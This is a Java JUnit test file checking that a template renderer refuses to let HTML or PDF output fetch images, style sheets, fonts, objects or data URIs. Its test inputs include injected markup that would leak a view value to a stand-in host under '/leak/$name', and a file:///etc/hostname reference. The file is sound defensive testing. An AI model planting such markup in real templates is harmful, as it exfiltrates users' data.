package org.safeguard.core.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A template cannot make a document fetch anything: an image, a style sheet, a CSS url() or a
 * font from a local listener or a file is refused with the template named, nothing reaches the
 * listener, and the message carries no value of the view (the URL's path held the child's name).
 */
class OutsideResourcesTest {
    @TempDir
    Path home;
    HttpServer listener;
    final AtomicInteger requests = new AtomicInteger();

    @BeforeEach
    void listen() throws Exception {
        listener = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
        listener.createContext("/", exchange -> {
            requests.incrementAndGet();
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        listener.start();
    }

    @AfterEach
    void stop() {
        listener.stop(0);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<img src=\"http://HOST/leak/$name\" width=\"1\" height=\"1\" />",
            "<img src='file:///etc/hostname' />",
            "<img src=\"leak/${name}.png\" />",
            "<div style=\"background: url(http://HOST/leak/$name)\">x</div>",
            "<style>@import 'http://HOST/leak.css';</style>",
            "<style>@font-face { font-family: x; src: url(\"http://HOST/font\"); }</style>",
            "<object data=\"http://HOST/leak\"></object>",
            // only a PNG the document carries, of a sane size, is an image a document may hold
            "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" />",
            "<img src=\"data:text/html,<b>x</b>\" />",
            "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgABhqAAAYagCAIAAAAAAAAAAAAA\" />",
            "<div style=\"background: url(data:image/png;base64,iVBORw0KGgo=)\">x</div>",
    })
    void nothingIsFetchedAndTheTemplateIsNamed(String element) throws Exception {
        String host = "127.0.0.1:" + listener.getAddress().getPort();
        Path templates = Files.createDirectories(home.resolve("templates"));
        Files.writeString(templates.resolve("probe.vm"), "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head><body>\n<p>x</p>\n"
                + element.replace("HOST", host) + "\n</body></html>\n");
        Renderer renderer = Renderer.create(TemplateSources.shared(Sources.shared()).withHomeOverrides(templates));
        Map<String, Object> view = Map.of("name", "Alexsecret");
        for (Format format : new Format[] {Format.HTML, Format.PDF}) {
            RenderException e = assertThrows(RenderException.class, () -> renderer.render("probe", format, view), format.name());
            assertTrue(e.getMessage().contains("probe.vm"), e.getMessage());
            assertTrue(e.getMessage().contains("never fetches") && e.getMessage().contains("probe.vm:3:"), "the template's line: " + e.getMessage());
            assertFalse(e.getMessage().contains("Alexsecret"), "the view's values stay out of the message: " + e.getMessage());
        }
        assertEquals(0, requests.get(), "the listener was reached");
    }

    @ParameterizedTest
    @EnumSource(value = Format.class, names = {"HTML", "PDF"})
    void linksAndReferencesWithinTheDocumentAreAllowed(Format format) throws Exception {
        Path templates = Files.createDirectories(home.resolve("templates"));
        Files.writeString(templates.resolve("links.vm"), "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head><body>"
                + "<p><a href=\"https://meet.example.org/j/123\">Join the call</a> <a href=\"#part-2\">Part 2</a></p></body></html>\n");
        Renderer renderer = Renderer.create(TemplateSources.shared(Sources.shared()).withHomeOverrides(templates));
        assertTrue(renderer.render("links", format, Map.of()).bytes().length > 0);
        assertEquals(0, requests.get());
    }

    @ParameterizedTest
    @EnumSource(value = Format.class, names = {"HTML", "PDF"})
    void theRefusalNamesTheTemplateLineThatWroteIt(Format format) throws Exception {
        String host = "127.0.0.1:" + listener.getAddress().getPort();
        Path templates = Files.createDirectories(home.resolve("templates"));
        Files.writeString(templates.resolve("outer.vm"), "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head><body>\n"
                + "#foreach($i in [1..9])\n<p>$i</p>\n#end\n#parse('inner.vm')\n</body></html>\n");
        Files.writeString(templates.resolve("inner.vm"), "<p>the part</p>\n  <p><img alt=\"\" src=\"http://" + host + "/leak/$name\" /></p>\n");
        Renderer renderer = Renderer.create(TemplateSources.shared(Sources.shared()).withHomeOverrides(templates));
        RenderException e = assertThrows(RenderException.class, () -> renderer.render("outer", format, Map.of("name", "Alexsecret")));
        assertTrue(e.getMessage().contains("inner.vm:2:6: the HTML rendering refers to an outside resource (http://127.0.0.1:"), e.getMessage());
        assertTrue(e.getMessage().contains("  <p><img alt"), "the template's line is quoted: " + e.getMessage());
        assertFalse(e.getMessage().contains("Alexsecret"), e.getMessage());
        assertEquals(0, requests.get());
    }
}
